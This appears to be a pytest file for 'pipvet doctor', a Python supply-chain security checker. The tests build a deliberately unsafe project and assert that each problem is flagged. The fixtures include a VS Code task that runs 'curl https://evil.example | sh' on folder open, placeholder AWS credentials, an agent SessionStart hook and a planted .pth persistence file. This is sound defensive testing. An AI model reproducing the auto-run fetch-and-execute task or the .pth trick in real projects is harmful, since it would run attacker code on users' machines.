"""`pipvet doctor` end to end: a bare project and a fully set-up one (set up by the real
`pipvet init`, a real venv with real wheels, cached advisory data from a small OSV bucket)
score differently, each failing or warning check naming its fix."""

from __future__ import annotations

import io
import json
import os
from pathlib import Path
from typing import Any

import pytest

from pipvet.cli import main
from pipvet.cli._common import Output
from tests.support.osv_bucket import csv_for, zip_of
from tests.support.wheels import build_wheel, create_venv, pip_install


def run(argv: list[str]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = main(argv, Output(stdout=out, stderr=err))
    return code, out.getvalue(), err.getvalue()


def doctor(*extra: str) -> tuple[int, dict[str, dict[str, Any]]]:
    code, out, err = run(["doctor", "--format", "json", *extra])
    assert "Traceback" not in err
    data = json.loads(out)
    return code, {c["id"]: c for c in data["checks"]}


@pytest.fixture
def machine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A fake home, a clean environment and a small advisory bucket; returns the home."""
    home = tmp_path / "home"
    home.mkdir()
    keep = {"PATH", "LANG", "LC_ALL", "TMPDIR", "SYSTEMROOT"}
    for key in list(os.environ):
        if key not in keep:
            monkeypatch.delenv(key)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("PIPVET_CACHE_DIR", str(tmp_path / "cache"))
    record = {
        "id": "PYSEC-2099-7",
        "modified": "2026-01-02T00:00:00Z",
        "summary": "vulnerable lib",
        "affected": [{"package": {"ecosystem": "PyPI", "name": "vulnlib"},
                      "ranges": [{"type": "ECOSYSTEM",
                                  "events": [{"introduced": "0"}, {"fixed": "2.0"}]}]}],
    }  # fmt: skip
    bucket = tmp_path / "osv" / "PyPI"
    bucket.mkdir(parents=True)
    (bucket / "all.zip").write_bytes(zip_of([record]))
    (bucket / "modified_id.csv").write_bytes(csv_for([record]))
    monkeypatch.setenv("PIPVET_OSV_URL", str(tmp_path / "osv"))
    return home


def test_bare_project_fails_and_names_every_fix(
    machine: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = tmp_path / "bare"
    project.mkdir()
    (project / "pipvet.toml").write_text("", encoding="utf-8")
    (project / "requirements.txt").write_text(
        "--extra-index-url https://internal.example/simple\n--trusted-host internal.example\n"
        "requests==2.31.0\nflask>=3.0\n",
        encoding="utf-8",
    )
    (project / "poetry.lock").write_text("", encoding="utf-8")
    (project / ".vscode").mkdir()
    task = {"label": "warm cache", "type": "shell", "command": "curl https://evil.example | sh"}
    task["runOptions"] = {"runOn": "folderOpen"}  # type: ignore[assignment]
    foreign = {"version": "2.0.0", "tasks": [task]}
    (project / ".vscode" / "tasks.json").write_text(json.dumps(foreign), encoding="utf-8")
    (project / ".claude").mkdir()
    hooks = {
        "hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "python x.py"}]}]}
    }
    (project / ".claude" / "settings.json").write_text(json.dumps(hooks), encoding="utf-8")
    (machine / ".aws").mkdir()
    (machine / ".aws" / "credentials").write_text(
        "[default]\naws_access_key_id = AKIAEXAMPLEEXAMPLE12\n"
        "aws_secret_access_key = abcdEXAMPLEsecretEXAMPLEsecretEXAMPLE1234\n",
        encoding="utf-8",
    )
    monkeypatch.chdir(project)

    code, checks = doctor()
    assert code == 1
    status = {k: v["status"] for k, v in checks.items()}
    assert status == {
        "environment": "fail",
        "pip-guard": "warn",
        "floors": "warn",
        "index-options": "fail",
        "ide-task": "warn",
        "ci-workflow": "warn",
        "audit": "warn",
        "startup-code": "warn",
        "persistence": "warn",
        "exposure": "warn",
    }
    assert "pipvet init" in checks["environment"]["fix"]
    assert "global.require-virtualenv true" in checks["pip-guard"]["fix"]
    assert checks["floors"]["fix"].startswith("pipvet relax")
    assert any("requirements.txt:3" in e for e in checks["floors"]["evidence"])
    assert any("poetry.lock" in e for e in checks["floors"]["evidence"])
    index_evidence = " ".join(checks["index-options"]["evidence"])
    assert "dependency confusion" in index_evidence
    assert "--trusted-host internal.example" in index_evidence
    persistence = " ".join(checks["persistence"]["evidence"])
    assert "warm cache" in persistence
    assert "SessionStart" in persistence
    assert "python x.py" in persistence
    assert "pipvet exposure" in checks["exposure"]["fix"]
    # The words of pipvet exposure: an unknown lifetime is counted with the long-lived ones.
    assert "1 long-lived or of unknown lifetime (" in checks["exposure"]["summary"]
    # never a value
    code, text, _ = run(["doctor"])
    assert "abcdEXAMPLE" not in text
    assert "AKIAEXAMPLE" not in text
    assert "FAIL  Isolated environment" in text
    assert "fix: pipvet relax" in text


@pytest.mark.slow
def test_set_up_project_passes_then_catches_planted_startup_code(
    machine: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = tmp_path / "good"
    project.mkdir()
    (project / "requirements.txt").write_text("safelib>=1.0\n", encoding="utf-8")
    wheels = tmp_path / "wheels"
    build_wheel(wheels, "safelib", "1.2")
    venv = create_venv(project / ".venv")
    pip_install(venv, "safelib", find_links=wheels)
    monkeypatch.chdir(project)
    code, _out, err = run(["init", "--no-venv"])
    assert code == 0, err
    (machine / ".config" / "pip").mkdir(parents=True)
    (machine / ".config" / "pip" / "pip.conf").write_text(
        "[global]\nrequire-virtualenv = true\n", encoding="utf-8"
    )
    code, _out, err = run(["db", "sync"])
    assert code == 0, err

    code, checks = doctor()
    failing = {k: (v["status"], v["summary"]) for k, v in checks.items() if v["status"] != "pass"}
    assert failing == {}
    assert code == 0

    # a .pth that runs code and that no RECORD lists: a persistence trick
    (venv.site_packages / "zz_persist.pth").write_text("import os\n", encoding="utf-8")
    code, checks = doctor()
    assert code == 1
    assert checks["startup-code"]["status"] == "fail"
    assert "zz_persist.pth" in checks["startup-code"]["evidence"][0]
    assert "rm " in checks["startup-code"]["fix"]
